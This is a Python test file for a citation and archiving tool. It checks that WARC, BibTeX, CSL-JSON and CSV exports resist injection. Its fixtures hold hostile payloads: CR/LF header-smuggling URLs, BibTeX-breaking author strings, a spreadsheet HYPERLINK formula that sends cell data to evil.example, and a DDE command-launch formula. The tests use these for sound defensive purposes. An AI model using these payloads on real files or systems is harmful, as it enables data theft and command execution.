"""Outputs cannot be injected: what a source or claim holds never becomes structure.

A URL with CR/LF (or any control character) is refused at archive time, since it would
become a header of `export warc` (`WARC-Type: revisit` on a line of its own); a database
that holds one from before is refused at export. BibTeX is read back by Pandoc's biblatex
reader and CSL-JSON by `json`: one entry per source whose fields are exactly what was
stored. CSV cells a spreadsheet would run as formulas (= + - @, tab, CR) are prefixed with
a single quote (OWASP), unless `--raw-csv`. Every case runs on the database under test.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
from pathlib import Path

import pytest
from sqlalchemy import create_engine, text
from warcio.archiveiterator import ArchiveIterator

from .conftest import Runner

INJECTED = "http://inj.example/a\r\nWARC-Type: revisit"


def page(tmp_path: Path, body: str, head: str = "", name: str = "p.html") -> Path:
    path = tmp_path / name
    path.write_text(
        f"<!DOCTYPE html><html><head><meta charset=utf-8><title>T</title>{head}</head>"
        f"<body><p>{body}</p></body></html>"
    )
    return path


def count(run: Runner, table: str) -> int:
    engine = create_engine(run.db_url)
    try:
        with engine.connect() as conn:
            return int(conn.execute(text(f"SELECT count(*) FROM {table}")).scalar_one())
    finally:
        engine.dispose()


def one_line_error(result: object) -> str:
    assert result.exit_code == 1, result.output  # type: ignore[attr-defined]
    lines = result.stderr.strip().splitlines()  # type: ignore[attr-defined]
    assert len(lines) == 1, result.stderr  # type: ignore[attr-defined]
    return lines[0]


@pytest.mark.parametrize(
    "url",
    [
        INJECTED,
        "http://inj.example/a\nX: y",
        "http://inj.example/\x00nul",
        "http://inj.example/\x1b[31mred",
        "http://inj.example/\x85next-line",
        "http://inj.example/\u2028line-separator",
    ],
)
def test_a_url_with_control_characters_is_refused_at_archive(
    run: Runner, tmp_path: Path, url: str
) -> None:
    result = run("archive", str(page(tmp_path, "Some words.")), "--url", url)
    line = one_line_error(result)
    assert line.startswith("Error: --url holds a control character (U+"), line
    assert count(run, "source") == 0 and count(run, "snapshot") == 0


def test_a_canonical_link_with_a_control_character_is_not_taken_as_the_url(
    run: Runner, tmp_path: Path
) -> None:
    # The page's own canonical link, with a raw control byte (entities for them decode to
    # nothing) that no whitespace folding removes.
    head = '<link rel="canonical" href="http://inj.example/a\x01WARC-Type: revisit">'
    path = page(tmp_path, "Some words.", head)
    result = run("archive", str(path), "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)[0]["url"] == path.resolve().as_uri()


def test_export_warc_refuses_a_url_stored_before_the_check(run: Runner, tmp_path: Path) -> None:
    assert run("archive", str(page(tmp_path, "Some words.")), "--url", "http://ok.example/a")
    engine = create_engine(run.db_url)
    with engine.begin() as conn:  # as a database written by an older factdb may hold
        conn.execute(text("UPDATE source SET url = :u"), {"u": INJECTED})
    engine.dispose()
    out = tmp_path / "a.warc.gz"
    line = one_line_error(run("export", "warc", "-o", str(out)))
    assert "holds a control character a WARC header cannot carry" in line, line
    assert not out.exists()


def test_export_warc_refuses_a_header_that_would_end_its_line(run: Runner, tmp_path: Path) -> None:
    assert run("archive", str(page(tmp_path, "Some words.")), "--url", "http://ok.example/a")
    engine = create_engine(run.db_url)
    with engine.begin() as conn:
        conn.execute(
            text("UPDATE snapshot SET headers = :h"),
            {"h": json.dumps([["X-A", "v\r\nWARC-Type: revisit"]])},
        )
    engine.dispose()
    out = tmp_path / "a.warc.gz"
    line = one_line_error(run("export", "warc", "-o", str(out)))
    assert "its header X-A holds a control character" in line, line


def test_every_exported_warc_header_is_what_was_stored(run: Runner, tmp_path: Path) -> None:
    url = "http://ok.example/a b?q={x}&r=%0D%0A"  # odd but harmless: no control character
    assert run("archive", str(page(tmp_path, "Some words.")), "--url", url).exit_code == 0
    out = tmp_path / "a.warc.gz"
    assert run("export", "warc", "-o", str(out)).exit_code == 0
    with out.open("rb") as fh:
        records = [
            (r.rec_type, r.rec_headers.get_header("WARC-Target-URI")) for r in ArchiveIterator(fh)
        ]
    # A URI holds no space: it is written percent-encoded, as a browser would send it.
    assert records == [("warcinfo", None), ("response", url.replace(" ", "%20"))]


# Lower case after the first letter: Pandoc's biblatex reader turns Title Case to sentence case.
HOSTILE_TITLE = "Q&a } @comment{ x \\end{document} %50 $x$ #1 _a ^b ~c <i>d</i> {"
HOSTILE_AUTHOR = "Evil}, @online{pwned"
HOSTILE_URL = "http://b.example/a}b{c\\d e%f"


@pytest.fixture
def hostile_source(run: Runner, tmp_path: Path) -> Runner:
    result = run(
        "archive",
        str(page(tmp_path, "Some words.")),
        "--url",
        HOSTILE_URL,
        "--title",
        HOSTILE_TITLE,
        "--author",
        HOSTILE_AUTHOR,
        "--publisher",
        "Pub\n@misc{second,",
    )
    assert result.exit_code == 0, result.output
    return run


def test_bibtex_reads_back_as_one_entry_with_the_stored_fields(
    hostile_source: Runner, tmp_path: Path
) -> None:
    from factdb.briefs import pandoc_path

    out = tmp_path / "s.bib"
    result = hostile_source("export", "sources", "--format", "bibtex", "-o", str(out))
    assert result.exit_code == 0, result.output
    read = subprocess.run(
        [pandoc_path(), "-f", "biblatex", "-t", "csljson", str(out)],
        capture_output=True,
        text=True,
        check=True,
    )
    items = json.loads(read.stdout)
    assert len(items) == 1, items
    assert items[0]["title"] == HOSTILE_TITLE
    assert items[0]["URL"] == "http://b.example/a%7Db%7Bc%5Cd%20e%f"
    assert items[0]["publisher"] == "Pub @misc{second,"
    # "Family, Given", as factdb reads a name with a comma: braces and @ stay text.
    assert items[0]["author"] == [{"family": "Evil}", "given": "@online{pwned"}]


def test_csl_json_holds_exactly_the_stored_fields(hostile_source: Runner) -> None:
    result = hostile_source("export", "sources", "--format", "csl-json")
    assert result.exit_code == 0, result.output
    items = json.loads(result.stdout)
    assert len(items) == 1
    assert (items[0]["title"], items[0]["URL"]) == (HOSTILE_TITLE, HOSTILE_URL)
    assert items[0]["publisher"] == "Pub\n@misc{second,"


FORMULAS = {
    "statement": '=HYPERLINK("http://evil.example/?"&A1,"click") 5 percent',
    "tag": "@SUM(1+1)",
    "title": "+cmd|' /C calc'!A0",
}


@pytest.fixture
def formulas(run: Runner, tmp_path: Path) -> Runner:
    path = page(tmp_path, "-2+3 is what the page says, and more.")
    result = run("archive", str(path), "--url", "http://f.example/", "--title", FORMULAS["title"])
    assert result.exit_code == 0, result.output
    result = run(
        "claim",
        "add",
        "--id",
        "formula",
        "--statement",
        FORMULAS["statement"],
        "--quote",
        "-2+3 is what the page says",
        "--source",
        "http://f.example/",
        "--tag",
        FORMULAS["tag"],
    )
    assert result.exit_code == 0, result.output
    return run


def rows(text_: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text_)))


def test_export_csv_neutralises_formula_cells(formulas: Runner) -> None:
    result = formulas("export", "claims", "--format", "csv")
    assert result.exit_code == 0, result.output
    [row] = rows(result.stdout)
    assert row["statement"] == "'" + FORMULAS["statement"]
    assert row["tags"] == "'" + FORMULAS["tag"]
    assert row["title"] == "'" + FORMULAS["title"]
    assert row["quote"] == "'-2+3 is what the page says"
    assert row["id"] == "formula" and row["text_start"] == "0"
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_raw_csv_writes_values_as_stored(formulas: Runner) -> None:
    for args in (["--raw-csv"], ["--format", "csv", "--raw-csv"]):
        result = formulas("export", "claims", *args)
        assert result.exit_code == 0, result.output
        [row] = rows(result.stdout)
        assert row["statement"] == FORMULAS["statement"]
        assert row["quote"] == "-2+3 is what the page says"


def test_raw_csv_with_another_format_is_a_usage_error(formulas: Runner) -> None:
    result = formulas("export", "claims", "--format", "jsonl", "--raw-csv")
    assert result.exit_code == 2
    assert "--raw-csv writes CSV" in result.stderr


def test_search_csv_neutralises_formula_cells(formulas: Runner) -> None:
    result = formulas("search", "--tag", FORMULAS["tag"], "--csv")
    assert result.exit_code == 0, result.output
    [row] = rows(result.stdout)
    assert row["statement"] == "'" + FORMULAS["statement"]
    assert row["tags"] == "'" + FORMULAS["tag"]
    raw = formulas("search", "--tag", FORMULAS["tag"], "--raw-csv")
    assert raw.exit_code == 0, raw.output
    [row] = rows(raw.stdout)
    assert row["statement"] == FORMULAS["statement"]
